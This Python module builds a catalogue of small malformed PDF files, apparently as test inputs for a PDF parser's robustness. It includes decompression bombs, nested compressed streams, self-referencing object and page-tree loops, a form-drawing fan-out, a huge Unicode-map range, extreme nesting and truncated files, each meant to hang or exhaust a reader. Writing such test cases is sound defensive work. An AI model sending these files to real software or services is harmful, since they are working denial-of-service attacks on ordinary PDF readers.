"""Attack files, made here: each is small, and each has stopped or starved some PDF reader."""

import zlib
from collections.abc import Callable, Mapping

__all__ = ["ATTACKS", "pdf", "stream", "unicode_map"]

_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_TEXT = b"BT /F1 12 Tf 72 700 Td (The report of the meeting) Tj ET"


def pdf(objects: Mapping[int, bytes], trailer: bytes = b"") -> bytes:
    """A PDF of these objects with a right cross-reference; object 1 is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places: dict[int, int] = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (max(objects) + 1)
    for number in range(1, max(objects) + 1):
        out += b"%010d 00000 %b \n" % (places.get(number, 0), b"n" if number in places else b"f")
    out += b"trailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (max(objects) + 1, trailer, start)
    return bytes(out)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """A stream object's body."""
    return b"<</Length %d%b>>\nstream\n%b\nendstream" % (len(content), entries, content)


def _page(
    content: bytes = b"", resources: bytes = b"/Font<</F1 5 0 R>>", box: bytes = b"0 0 595 842"
) -> dict[int, bytes]:
    return {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[%b]/Contents 4 0 R/Resources<<%b>>>>" % (box, resources),
        4: stream(content or _TEXT),
        5: _FONT,
    }


def _zeros(megabytes: int, times: int = 1) -> bytes:
    packer = zlib.compressobj(9)
    content = b"".join(packer.compress(bytes(1 << 20)) for _ in range(megabytes)) + packer.flush()
    for _ in range(times - 1):
        content = zlib.compress(content, 9)
    return stream(content, b"/Filter[" + b"/FlateDecode " * times + b"]")


def _reference_loop() -> bytes:
    return pdf(_page() | {4: b"6 0 R", 6: b"4 0 R"})


def _catalogue_loop() -> bytes:
    return pdf(_page() | {1: b"6 0 R", 6: b"1 0 R"})


def _length_of_itself() -> bytes:
    return pdf(_page() | {4: b"<</Length 4 0 R>>\nstream\n" + _TEXT + b"\nendstream"})


def _page_tree_loop() -> bytes:
    return pdf(_page() | {2: b"<</Type/Pages/Count 2/Kids[3 0 R 2 0 R]>>"})


def _deep_page_tree() -> bytes:
    deep = {number: b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (number + 1) for number in range(10, 3010)}
    return pdf(
        _page() | {2: b"<</Type/Pages/Count 1/Kids[10 0 R]>>"} | deep | {3010: b"<</Type/Pages/Count 1/Kids[3 0 R]>>"}
    )


def _many_pages() -> bytes:
    return pdf(_page() | {2: b"<</Type/Pages/Count 3000/Kids[" + b"3 0 R " * 3000 + b"]>>"})


def _claimed_pages() -> bytes:
    return pdf(_page() | {2: b"<</Type/Pages/Count 2000000000/Kids[3 0 R]>>"})


def _form_loop() -> bytes:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X 6 0 R>>>>"
    return pdf(_page(b"/X Do " + _TEXT, b"/Font<</F1 5 0 R>>/XObject<</X 6 0 R>>") | {6: stream(b"/X Do", form)})


def _form_fan() -> bytes:
    """Eight forms that each draw the next ten times: a hundred million drawings."""
    objects = _page(b"/X Do", b"/XObject<</X 10 0 R>>")
    for number in range(10, 18):
        entries = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X %d 0 R>>>>" % (number + 1)
        objects[number] = stream(b"/X Do " * 10, entries)
    objects[18] = stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]")
    return pdf(objects)


def _flate_bomb() -> bytes:
    return pdf(_page() | {4: _zeros(200)})


def _nested_bomb() -> bytes:
    return pdf(_page() | {4: _zeros(400, 2)})


def unicode_map(mappings: bytes, content: bytes = b"") -> bytes:
    head = (
        b"/CIDInit/ProcSet findresource begin 12 dict begin begincmap 1 begincodespacerange <0><F> endcodespacerange "
    )
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>"
    return pdf(_page(content) | {5: font, 6: stream(head + mappings + b"\nendcmap end end")})


def _range_bomb() -> bytes:
    return unicode_map(b"1 beginbfrange\n<00000000> <FFFFFFFF> <0041>\nendbfrange")


def _ligature_bomb() -> bytes:
    letters = b"BT /F1 1 Tf 72 700 Td (" + b"A" * 40_000 + b") Tj ET"
    return unicode_map(b"1 beginbfchar\n<41> <" + b"0041" * 2_000 + b">\nendbfchar", letters)


def _many_letters() -> bytes:
    return pdf(_page(b"BT /F1 1 Tf 72 700 Td (" + b"letters " * 20_000 + b") Tj ET"))


def _many_boxes() -> bytes:
    return pdf(_page(_TEXT + b" 9 9 9 1 re f" * 60_000))


def _many_saves() -> bytes:
    return pdf(_page(b"q " * 300_000 + _TEXT))


def _many_brackets() -> bytes:
    return pdf(_page(b"(" * 300_000))


def _deep_arrays() -> bytes:
    return pdf(_page(b"[" * 100_000 + b"]" * 100_000 + b"TJ " + _TEXT))


def _deep_dictionary() -> bytes:
    return pdf(_page(), b"/Info " + b"<</A" * 5_000 + b" 1" + b">>" * 5_000)


def _wide_predictor() -> bytes:
    content = zlib.compress(_TEXT)
    entries = b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 2000000000/Colors 4/BitsPerComponent 16>>"
    return pdf(_page() | {4: stream(content, entries)})


def _previous_loop() -> bytes:
    plain = pdf(_page())
    return pdf(_page(), b"/Prev %d" % plain.rfind(b"xref\n0"))


def _huge_section() -> bytes:
    return pdf(_page()).replace(b"xref\n0 6", b"xref\n0 2147483647")


def _text_of_one_line() -> bytes:
    return b"1 " * 200_000


def _text_of_marks() -> bytes:
    return b"\n".join((b"*" * 5_000, b"_" * 50_000, b"- 1 " * 10_000, b"12. " * 10_000))


ATTACKS: dict[str, Callable[[], bytes]] = {
    "reference loop": _reference_loop,
    "catalogue loop": _catalogue_loop,
    "stream whose length is itself": _length_of_itself,
    "page tree loop": _page_tree_loop,
    "page tree of 3,000 levels": _deep_page_tree,
    "one page 3,000 times": _many_pages,
    "two thousand million pages claimed": _claimed_pages,
    "form that draws itself": _form_loop,
    "forms that draw forms": _form_fan,
    "200 MB of zeros": _flate_bomb,
    "400 MB of zeros packed twice": _nested_bomb,
    "Unicode map of four thousand million entries": _range_bomb,
    "letter that stands for 2,000": _ligature_bomb,
    "160,000 letters on a page": _many_letters,
    "60,000 boxes on a page": _many_boxes,
    "300,000 saved states": _many_saves,
    "300,000 open brackets": _many_brackets,
    "100,000 nested arrays": _deep_arrays,
    "5,000 nested dictionaries": _deep_dictionary,
    "page of 1e15 points": lambda: pdf(_page(box=b"0 0 1e15 1e15")),
    "page with three corners": lambda: pdf(_page(box=b"0 0 595")),
    "page without area": lambda: pdf(_page(box=b"0 0 0 0")),
    "page of words": lambda: pdf(_page(box=b"/A (b) null [1]")),
    "two thousand million columns": _wide_predictor,
    "cross-reference loop": _previous_loop,
    "cross-reference of two thousand million entries": _huge_section,
    "encrypted by nobody": lambda: pdf(_page(), b"/Encrypt<</Filter/Unknown/V 9>>/ID[<00><00>]"),
    "header alone": lambda: b"%PDF-1.7\n",
    "cut in half": lambda: pdf(_page())[:300],
    "zero bytes": lambda: bytes(100_000),
    "text of one line": _text_of_one_line,
    "text of marks": _text_of_marks,
}
